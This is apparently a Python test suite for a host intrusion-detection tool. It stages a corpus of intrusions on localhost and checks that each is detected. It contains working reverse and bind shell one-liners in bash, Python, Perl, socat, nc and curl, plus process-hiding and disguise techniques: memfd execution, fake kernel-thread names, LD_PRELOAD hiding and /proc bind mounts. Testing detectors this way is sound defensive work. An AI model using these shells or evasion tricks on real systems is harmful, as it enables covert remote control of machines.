#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""A corpus of intrusions, run for real: each is found, by the right rule, and points at the right process."""
import json
import os
import shutil
import socket
import subprocess
import tempfile
import time

import live
import scene
from test_audit import Groups, Packages

GIT_DAEMON = "/usr/lib/git-core/git-daemon"
PYTHON_SHELL = ("import os,socket,subprocess\ns=socket.create_connection(('127.0.0.1',%d))\n"
                "[os.dup2(s.fileno(),i) for i in (0,1,2)]\nos.execv('/bin/sh',['sh','-i'])")
PYTHON_RELAY = ("import socket,subprocess\ns=socket.create_connection(('127.0.0.1',%d))\n"
                "p=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE)\n"
                "while True:\n p.stdin.write(s.recv(1))")
PYTHON_COPY = ("import os,socket\ns=socket.create_connection(('127.0.0.1',%d))\n"
               "[os.dup2(s.fileno(),i) for i in (0,1,2)]\nos.execv('/srv/bb',['bb'])")
PYTHON_TERMINAL = ("import os,socket\ns=socket.create_connection(('127.0.0.1',%d))\nmaster,slave=os.openpty()\n"
                   "if os.fork()==0:\n os.setsid()\n if os.fork()==0:\n  [os.dup2(slave,i) for i in (0,1,2)]\n"
                   "  os.execv('/bin/sh',['sh'])\n os._exit(0)\nos.wait()\n"
                   "while True:\n os.write(master,s.recv(1))")
PYTHON_BIND = ("import os,socket\nl=socket.create_server(('127.0.0.1',%d))\ns,_=l.accept()\n"
               "[os.dup2(s.fileno(),i) for i in (0,1,2)]\nos.execv('/bin/bash',['bash','-i'])")
PERL_SHELL = ("use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(%d,inet_aton('127.0.0.1')));"
              "open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh','-i')")
SNIFFER = "import socket,time\ns=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3))\ntime.sleep(600)"
PINGER = "import socket,time\ns=socket.socket(socket.AF_INET,socket.SOCK_RAW,1)\ntime.sleep(600)"


class Case:
    """One intrusion: its rule, the pid that must be named, and who else may be named for it."""

    def __init__(self, name, rule, pid, port=None):
        self.name, self.rule, self.pid, self.port = name, rule, pid, port


def children(pid):
    with open("/proc/%d/task/%d/children" % (pid, pid)) as f:
        return [int(n) for n in f.read().split()]


def exe_of(pid):
    try:
        return os.path.basename(os.readlink("/proc/%d/exe" % pid))
    except OSError:
        return ""


def the_only(program, port=None):
    """The process that runs it; of several the one with that port among its arguments."""
    found = [p for p in map(int, filter(str.isdigit, os.listdir("/proc"))) if exe_of(p) == program]
    if port:
        found = [p for p in found if str(port).encode() in open("/proc/%d/cmdline" % p, "rb").read()]
    live.equal(len(found), 1, "processes that run %s" % program)
    return found[0]


def calls_home(s, name, rule, *command, runs=None, shell_pid=False):
    """A program that connects to the attacker; `runs`: what it has become when the shell is there."""
    sock, port = s.attacker()
    process = s.start(*[word.replace("%d", str(port)) for word in command])
    s.accept(sock)
    pid = process.pid
    if runs:
        scene.wait_until(name, lambda: exe_of(pid) in runs)
    if shell_pid:
        scene.wait_until(name, lambda: children(pid))
    return Case(name, rule, pid)


def lets_in(s, name, rule, port, *command, runs=None, in_child=False):
    """A program that listens, and the attacker who has connected."""
    process = s.start(*[word.replace("%d", str(port)) for word in command])
    scene.wait_until(name, lambda: scene.listens(port))
    s.sockets.append(socket.create_connection(("127.0.0.1", port)))
    pid = process.pid
    if in_child:
        scene.wait_until(name, lambda: children(pid))
        pid = children(pid)[0]
    if runs:
        scene.wait_until(name, lambda: exe_of(pid) in runs)
    return Case(name, rule, pid)


def reverse_shells(s):
    shells = ("bash", "dash", "sh")
    yield calls_home(s, "bash, /dev/tcp", "shell-on-socket", "bash", "-c",
                     "exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1")
    yield calls_home(s, "python3, dup2", "shell-on-socket", "/usr/bin/python3", "-c", PYTHON_SHELL, runs=shells)
    yield calls_home(s, "python3, pipes", "shell-behind-relay", "/usr/bin/python3", "-c", PYTHON_RELAY, shell_pid=True)
    yield calls_home(s, "perl", "shell-on-socket", "/usr/bin/perl", "-e", PERL_SHELL, runs=shells)
    yield calls_home(s, "socat, EXEC", "shell-behind-relay", "socat", "TCP:127.0.0.1:%d", "EXEC:/bin/sh", shell_pid=True)
    yield calls_home(s, "socat, terminal", "shell-behind-relay", "socat", "TCP:127.0.0.1:%d",
                     "EXEC:/bin/bash,pty,stderr,setsid", shell_pid=True)
    yield calls_home(s, "socat, nofork", "shell-on-socket", "socat", "TCP:127.0.0.1:%d", "EXEC:/bin/sh,nofork",
                     runs=shells)
    yield calls_home(s, "nc -e", "shell-on-socket", "nc.traditional", "-e", "/bin/sh", "127.0.0.1", "%d", runs=shells)
    s.copy("/srv/bb", "/bin/bash")
    yield calls_home(s, "a copy of bash", "shell-on-socket", "/usr/bin/python3", "-c", PYTHON_COPY, runs=("bb",))
    yield calls_home(s, "python3, terminal, forked twice", "shell-behind-relay", "/usr/bin/python3", "-c", PYTHON_TERMINAL)
    sock, port = s.attacker()
    os.mkfifo("/srv/loop")
    s.start("sh", "-c", "tail -f /srv/loop | (exec curl -sNT - telnet://127.0.0.1:%d) | sh -i > /srv/loop 2>&1" % port)
    s.accept(sock)
    yield Case("curl, fifo", "shell-behind-relay", the_only("curl"))
    sock, port = s.attacker()
    s.start("sh", "-c", "(exec nc.openbsd 127.0.0.1 %d) | sh" % port)
    s.accept(sock)
    yield Case("nc, into sh", "shell-behind-relay", the_only("nc.openbsd"))
    sock, port = s.attacker()
    os.mkfifo("/srv/fifo")
    s.start("sh", "-c", "cat /srv/fifo | /bin/sh -i 2>&1 | (echo $$ > /srv/pid; exec nc.openbsd 127.0.0.1 %d > "
            "/srv/fifo)" % port)
    s.accept(sock)
    yield Case("nc, fifo", "shell-behind-relay", the_only("nc.openbsd", port))


def bind_shells(s):
    yield lets_in(s, "bind shell, nc -e", "shell-on-socket", 4441, "nc.traditional", "-l", "-p", "%d", "-s", "127.0.0.1",
                  "-e", "/bin/sh", runs=("dash", "sh"))
    yield lets_in(s, "bind shell, socat", "shell-behind-relay", 4442, "socat",
                  "TCP-LISTEN:%d,bind=127.0.0.1,fork", "EXEC:/bin/sh", in_child=True)
    yield lets_in(s, "bind shell, python3", "shell-on-socket", 4443, "/usr/bin/python3", "-c", PYTHON_BIND,
                  runs=("bash",))


def executables(s, work):
    fd = os.memfd_create("cron", 0)
    with open(scene.INTRUDER, "rb") as f:
        os.write(fd, f.read())
    p = s.intruder("/proc/self/fd/%d" % fd, "listen", "127.0.0.1", 0, pass_fds=[fd])
    os.close(fd)
    yield Case("memfd", "exe-memory", p["pid"])
    p = s.intruder(s.copy("/srv/gone"), "listen", "127.0.0.1", 0)
    os.unlink("/srv/gone")
    yield Case("deleted", "exe-deleted", p["pid"])
    p = s.intruder(s.copy("/srv/other"), "listen", "127.0.0.1", 0)
    s.copy("/srv/fresh")
    os.rename("/srv/fresh", "/srv/other")
    yield Case("replaced", "exe-replaced", p["pid"])
    p = s.start(s.copy(work + "/git-daemon", GIT_DAEMON), "--listen=127.0.0.1", "--port=9419", "--base-path=/srv")
    scene.wait_until("the copy listens", lambda: scene.listens(9419))
    yield Case("packaged, copied to /tmp", "exe-world-writable", p.pid)
    s.copy("/srv/changed", GIT_DAEMON)
    with open("/srv/changed", "ab") as f:
        f.write(b"more")
    s.mount("--bind", "/srv/changed", GIT_DAEMON)
    p = s.start(GIT_DAEMON, "--listen=127.0.0.1", "--port=9418", "--base-path=/srv")
    scene.wait_until("the changed one listens", lambda: scene.listens(9418))
    yield Case("packaged, changed on disk", "exe-modified", p.pid)


def disguises(s):
    os.makedirs("/srv/home")
    os.chown("/srv/home", 65534, 65534)
    s.copy("/srv/home/sshd")
    os.chown("/srv/home/sshd", 65534, 65534)
    for name, rule, *words in (
            ("comm of a daemon", "imitates-program", "/srv/c1", "comm=sshd"),
            ("arguments of a daemon", "imitates-program", "/srv/c2", "argv=/usr/sbin/sshd -D"),
            ("file named as a daemon", "imitates-program", "/srv/home/sshd"),
            ("comm of a kernel thread", "fake-kernel-thread", "/srv/c3", "comm=kworker/0:1"),
            ("arguments of a kernel thread", "fake-kernel-thread", "/srv/c4", "argv=[kworker/u4:0]"),
            ("no arguments", "fake-kernel-thread", "/srv/c5", "erase"),
            ("file named as a kernel thread", "fake-kernel-thread", "/srv/home/[kthreadd]"),
            ("comm of another daemon", "imitates-program", "/srv/c6", "comm=nginx"),
            ("comm of a file system's thread", "fake-kernel-thread", "/srv/c8", "comm=xfsaild/dm-0"),
            ("comm of nfsd", "fake-kernel-thread", "/srv/c9", "comm=nfsd"),
            ("path of a program outside PATH", "imitates-program", "/srv/c10", "argv=" + GIT_DAEMON + " --inetd"),
            ("arguments of a worker", "imitates-program", "/srv/c7", "argv=nginx: worker process")):
        if not os.path.exists(words[0]):
            s.copy(words[0])
        p = s.intruder(words[0], *words[1:], "listen", "127.0.0.1", 0)
        yield Case(name, rule, p["pid"])
    sock, port = s.attacker()
    p = s.start("/usr/bin/perl", "-MSocket", "-e", "socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(%d,"
                "inet_aton('127.0.0.1')));$0='sshd';sleep 600" % port)
    s.accept(sock)
    scene.wait_until("renamed", lambda: open("/proc/%d/comm" % p.pid).read() == "sshd\n")
    yield Case("perl that calls itself a daemon", "imitates-program", p.pid)


def listeners(s):
    yield Case("sniffer, PACKET", "sniffer", s.intruder(s.copy("/srv/sniff"), "packet")["pid"])
    yield Case("sniffer, RAW", "sniffer", s.intruder("/srv/sniff", "raw")["pid"])
    for name, code, table in (("sniffer, python3", SNIFFER, "packet"), ("RAW socket, python3", PINGER, "raw")):
        before = len(open("/proc/net/" + table).readlines())
        p = s.start("/usr/bin/python3", "-c", code)
        scene.wait_until(name, lambda b=before, t=table: len(open("/proc/net/" + t).readlines()) > b)
        yield Case(name, "sniffer", p.pid)
    p = s.start("/usr/sbin/dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--port=22", "--bind-interfaces",
                "--listen-address=127.0.0.1", "--no-resolv", "--no-hosts", "--pid-file", "--user=nobody")
    scene.wait_until("dnsmasq at 22", lambda: scene.listens(22))
    yield Case("service on another's port", "service-contradicted", p.pid)
    yield Case("door on a dynamic port", "open-dynamic-listener",
               s.intruder(s.copy("/srv/door"), "listen", "0.0.0.0", 50505)["pid"])
    shutil.copy(os.path.join(live.HELPERS, "hidepid.so"), "/srv/lib.so")
    p = s.start("socat", "TCP-LISTEN:7001,bind=127.0.0.1", "STDOUT", env={"LD_PRELOAD": "/srv/lib.so"})
    scene.wait_until("socat listens", lambda: scene.listens(7001))
    yield Case("preloaded library", "preloaded-library", p.pid)


def hidden(s):
    p = s.intruder(s.copy("/srv/hidden"), "listen", "127.0.0.1", 0)
    os.makedirs("/srv/empty")
    s.mount("--bind", "/srv/empty", "/proc/%d" % p["pid"])
    yield Case("hidden by a mount", "owner-hidden", p["pid"], p["port"])


def named_by(doc, case):
    """The findings that name the rule and point at the process, by owner or, for hidden ones, in words."""
    found = []
    for finding in doc["findings"]:
        if finding["verdict"] != "suspicious" or case.rule not in finding["rules"]:
            continue
        words = finding["evidence"][finding["rules"].index(case.rule)]
        owned = case.pid in scene.pids(finding)
        if case.port:
            owned = owned or finding["conversation"]["local_port"] == case.port
        if owned and str(case.pid) in "".join(c if c.isdigit() else " " for c in words).split():
            found.append(finding)
        elif owned and case.rule in ("exe-modified", "service-contradicted"):
            found.append(finding)  # their sentences name the file: the process is the owner
    return found


def report(cases, doc):
    missed = []
    print("%-32s %-22s %7s  %s" % ("intrusion", "rule", "pid", "found"))
    for case in cases:
        found = named_by(doc, case)
        print("%-32s %-22s %7d  %s" % (case.name, case.rule, case.pid, "yes" if found else "NO"))
        if not found:
            other = [(f["verdict"], f["rules"]) for f in scene.of_pid(doc, case.pid)]
            missed.append("%s: %s for %d; found: %r" % (case.name, case.rule, case.pid, other))
    print("%d intrusions, %d found" % (len(cases), len(cases) - len(missed)), flush=True)
    return missed


def test_corpus():
    with scene.Scene() as s, tempfile.TemporaryDirectory(dir="/tmp") as work:
        cases = [case for make in (reverse_shells, bind_shells, disguises, listeners, hidden) for case in make(s)]
        cases += executables(s, work)
        time.sleep(0.3)  # shells have read their first bytes
        doc = scene.audit("--verify")
        live.equal(report(cases, doc), [], "intrusions that were missed")
        live.holds(len(cases) >= 20, "at least 20 intrusions")
        live.equal(doc["exit"], 5, "exit status")


def test_hidden_from_tools():
    """A library that leaves a process out of listings, in every dynamic program, portavoz included."""
    if live.SANITIZED:
        return  # nothing can be loaded before the sanitizer's own library
    with scene.Scene() as s:
        p = s.intruder(s.copy("/srv/program"), "listen", "127.0.0.1", 0)
        env = {"LD_PRELOAD": os.path.join(live.HELPERS, "hidepid.so"), "HIDEPID": str(p["pid"])}
        shown = subprocess.run(["ls", "/proc"], env={**os.environ, **env}, stdout=subprocess.PIPE, text=True, check=True)
        live.holds(str(p["pid"]) not in shown.stdout.split(), "ls shows it")
        case = Case("hidden by a preloaded library", "owner-hidden", p["pid"], p["port"])
        live.equal(report([case], scene.audit(env=env)), [], "hidden from tools")


AGENT = b"#!/bin/bash\necho hello\nread -t 60 x\n"


def test_scripts_that_are_handed_their_conversation():
    """A package's script that inetd, or systemd (here: the first process) with Accept=yes, starts on a conversation is no
    shell on it; a shell, and a script of nobody's, still is, and so is the package's script of somebody else."""
    shell = "/bin/bash", "--norc", "-i"
    with scene.Scene() as s, Groups(s) as groups:
        Packages(s).install({"/opt/agent": AGENT, "/usr/lib/systemd/system/portavoz-test@.service": b"[Service]\n"})
        s.copy("/srv/agent", "/opt/agent")
        by_inetd = {7301: ("/opt/agent", "agent"), 7302: (shell[0], *shell), 7303: ("/srv/agent", "agent"),
                    7304: (shell[0], shell[0], "-s", "/opt/agent")}
        with open("/srv/inetd.conf", "w") as f:
            f.writelines("127.0.0.1:%d stream tcp nowait root %s\n" % (port, " ".join(words)) for port, words in by_inetd.items())
        s.start("/usr/sbin/inetd", "-i", "/srv/inetd.conf")
        for port in by_inetd:
            scene.wait_until("inetd listens", lambda p=port: scene.listens(p))
            s.sockets.append(socket.create_connection(("127.0.0.1", port)))
        for port, words in ((7305, ("/opt/agent",)), (7306, shell)):
            listening = socket.create_server(("127.0.0.1", port))
            s.sockets += [listening, socket.create_connection(("127.0.0.1", port))]
            with listening.accept()[0] as taken:
                groups.run("system.slice/portavoz-test@1.service", *words, stdin=taken, stdout=taken)
        call, port = s.attacker()
        with socket.create_connection(("127.0.0.1", port)) as client:
            s.accept(call)
            s.start("/opt/agent", stdin=client, stdout=client)
        scene.wait_until("all serve", lambda: len(live.rows("exe */bash", columns="pid")) == 7)
        found = {min(f["conversation"]["local_port"], 7307): f for f in scene.audit("exe */bash")["findings"]}
        wanted = {7301: "unexplained", 7302: "suspicious", 7303: "suspicious", 7304: "suspicious", 7305: "explained",
                  7306: "suspicious", 7307: "suspicious"}
        live.equal({key: f["verdict"] for key, f in found.items()}, wanted, "verdicts")
        for key, verdict in wanted.items():
            live.equal("shell-on-socket" in found[key]["rules"], verdict == "suspicious", found[key]["evidence"])


def test_partial_knowledge_is_never_green():
    """Who may not look at processes is told so, and nothing of theirs is explained."""
    with scene.Scene() as s:
        p = s.start(GIT_DAEMON, "--listen=127.0.0.1", "--port=9418", "--base-path=/srv", "--reuseaddr")
        scene.wait_until("git daemon listens", lambda: scene.listens(9418))
        scene.expect(scene.audit(), p.pid, "explained", "package")
        done = live.run("audit", "--json", "--all", "--no-policy", prefix=live.as_nobody(), expect=4)
        finding, = [f for f in json.loads(done.stdout)["findings"] if f["conversation"]["local_port"] == 9418]
        live.equal(finding["verdict"], "unexplained", "verdict without the owner")
        live.holds("owner-unknown" in finding["rules"] and "partial" in finding["rules"], finding["rules"])
        live.run("audit", "--strict", "--no-policy", prefix=live.as_nobody(), expect=3)


live.main(globals(), pid=True)
